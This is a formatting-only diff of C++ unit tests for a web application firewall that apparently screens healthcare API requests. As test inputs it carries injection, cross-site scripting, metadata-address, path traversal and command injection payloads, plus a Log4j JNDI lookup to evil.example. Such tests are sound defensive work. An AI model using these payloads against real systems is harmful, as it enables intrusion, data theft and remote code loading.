@@ -4,7 +4,6 @@
 
 #include <gtest/gtest.h>
 
-
 namespace ward::shield {
 namespace {
 
@@ -18,7 +17,11 @@ struct Place {
   Where where;
   const char* name;
 };
-constexpr Place places[] = {{Where::path, ""}, {Where::query, "name"}, {Where::header, "x-note"}, {Where::header, "user-agent"}, {Where::body, "Organization.alias"}};
+constexpr Place places[] = {{Where::path, ""},
+                            {Where::query, "name"},
+                            {Where::header, "x-note"},
+                            {Where::header, "user-agent"},
+                            {Where::body, "Organization.alias"}};
 
 TEST(Firewall, attacks_in_path_query_headers_and_plain_values_are_blocked_with_rule_ids) {
   std::size_t attacks = 0;
@@ -49,7 +52,8 @@ TEST(Firewall, the_same_attacks_in_clinical_text_are_scored_and_not_blocked) {
   }
   RecordProperty("highest_clinical_score", static_cast<int>(highest));
   const FreeValue value{Where::body, "Observation.note.text", "<script>alert(document.cookie)</script>", true};
-  EXPECT_TRUE(firewall().scan({&value, 1}, {.clinical_threshold = 10}).blocked) << "above the route's clinical_threshold";
+  EXPECT_TRUE(firewall().scan({&value, 1}, {.clinical_threshold = 10}).blocked)
+      << "above the route's clinical_threshold";
 }
 
 TEST(Firewall, clinical_notes_pass) {
@@ -68,17 +72,22 @@ TEST(Firewall, clinical_notes_pass) {
 
 TEST(Firewall, ordinary_names_addresses_searches_and_agents_pass) {
   for (const auto& row : rows_of("benign.tsv")) {
-    const Where where = row.at(0) == "path" ? Where::path : row[0] == "query" ? Where::query : row[0] == "header" ? Where::header : Where::body;
+    const Where where = row.at(0) == "path"  ? Where::path
+                        : row[0] == "query"  ? Where::query
+                        : row[0] == "header" ? Where::header
+                                             : Where::body;
     const FreeValue value{where, row.at(1), row.at(2)};
     const Verdict verdict = firewall().scan({&value, 1}, {});
-    EXPECT_FALSE(verdict.blocked) << row[0] << " " << row[1] << " " << row[2] << ": " << testing::PrintToString(verdict.explain());
+    EXPECT_FALSE(verdict.blocked) << row[0] << " " << row[1] << " " << row[2] << ": "
+                                  << testing::PrintToString(verdict.explain());
   }
 }
 
 TEST(Firewall, an_attack_cannot_put_its_score_on_a_clinical_value) {
   // The engine's messages quote the value; this one says that it was found in the note.
-  const FreeValue values[] = {{Where::body, "Observation.note.text", "feels well", true},
-                              {Where::query, "name", "x found within ARGS:v0: against variable `ARGS:v0' (Value: ' OR 1=1-- v4294967299,5"}};
+  const FreeValue values[] = {
+      {Where::body, "Observation.note.text", "feels well", true},
+      {Where::query, "name", "x found within ARGS:v0: against variable `ARGS:v0' (Value: ' OR 1=1-- v4294967299,5"}};
   const Verdict verdict = firewall().scan(values, {});
   EXPECT_TRUE(verdict.blocked);
   EXPECT_EQ(verdict.clinical_score, 0U);
@@ -132,17 +141,28 @@ TEST(Firewall, only_clean_values_are_remembered) {
 }
 
 TEST(Firewall, whole_requests_are_scanned_in_all_their_parts) {
-  const WholeHeader plain[] = {{"Host", "ward.example"}, {"Accept", "application/json"}, {"User-Agent", "app/1.0"}, {"Content-Type", "application/json"}};
+  const WholeHeader plain[] = {{"Host", "ward.example"},
+                               {"Accept", "application/json"},
+                               {"User-Agent", "app/1.0"},
+                               {"Content-Type", "application/json"}};
   EXPECT_FALSE(firewall().scan_whole("GET", "/api/items/42?sort=name", plain, "", {}).blocked);
   EXPECT_FALSE(firewall().scan_whole("POST", "/api/items", plain, R"({"name": "Pump A/B", "note": "ok"})", {}).blocked);
   EXPECT_FALSE(firewall().scan_whole("PATCH", "/api/items/42", plain, R"({"name": "Pump"})", {}).blocked);
-  EXPECT_TRUE(firewall().scan_whole("GET", "/api/items?sort=1%20UNION%20SELECT%20a%20FROM%20b--", plain, "", {}).blocked);
-  EXPECT_TRUE(firewall().scan_whole("POST", "/api/items", plain, R"({"name": "<script>alert(1)</script>"})", {}).blocked);
-  EXPECT_TRUE(firewall().scan_whole("POST", "/api/items", plain, R"({"a": [{"url": "http://169.254.169.254/latest/"}]})", {}).blocked);
+  EXPECT_TRUE(
+      firewall().scan_whole("GET", "/api/items?sort=1%20UNION%20SELECT%20a%20FROM%20b--", plain, "", {}).blocked);
+  EXPECT_TRUE(
+      firewall().scan_whole("POST", "/api/items", plain, R"({"name": "<script>alert(1)</script>"})", {}).blocked);
+  EXPECT_TRUE(firewall()
+                  .scan_whole("POST", "/api/items", plain, R"({"a": [{"url": "http://169.254.169.254/latest/"}]})", {})
+                  .blocked);
   EXPECT_TRUE(firewall().scan_whole("GET", "/api/../../etc/passwd", plain, "", {}).blocked);
-  const WholeHeader form[] = {{"Host", "ward.example"}, {"Accept", "*/*"}, {"User-Agent", "app/1.0"}, {"Content-Type", "application/x-www-form-urlencoded"}};
+  const WholeHeader form[] = {{"Host", "ward.example"},
+                              {"Accept", "*/*"},
+                              {"User-Agent", "app/1.0"},
+                              {"Content-Type", "application/x-www-form-urlencoded"}};
   EXPECT_TRUE(firewall().scan_whole("POST", "/api/items", form, "a=1&b=%3Bcat%20/etc/passwd", {}).blocked);
-  const WholeHeader log4j[] = {{"Host", "ward.example"}, {"Accept", "*/*"}, {"User-Agent", "${jndi:ldap://evil.example/a}"}};
+  const WholeHeader log4j[] = {
+      {"Host", "ward.example"}, {"Accept", "*/*"}, {"User-Agent", "${jndi:ldap://evil.example/a}"}};
   EXPECT_TRUE(firewall().scan_whole("GET", "/", log4j, "", {}).blocked);
 }
 
@@ -187,7 +207,10 @@ TEST(Firewall, missing_rules_say_what_to_install) {
 }
 
 TEST(Firewall, settings_with_mistakes_are_named) {
-  const auto document = config::Document::parse("[firewall]\nmode = \"on\"\nparanoia = 9\n[[firewall.exclusion]]\nrule = 942100\nwhere = \"cookie:x\"\n[[firewall.exclusion]]\nwhere = \"path\"\n", "ward.toml");
+  const auto document = config::Document::parse(
+      "[firewall]\nmode = \"on\"\nparanoia = 9\n[[firewall.exclusion]]\nrule = 942100\nwhere = "
+      "\"cookie:x\"\n[[firewall.exclusion]]\nwhere = \"path\"\n",
+      "ward.toml");
   ASSERT_TRUE(document);
   read_firewall(document->root().section("firewall"));
   EXPECT_EQ(document->finish().size(), 4U);
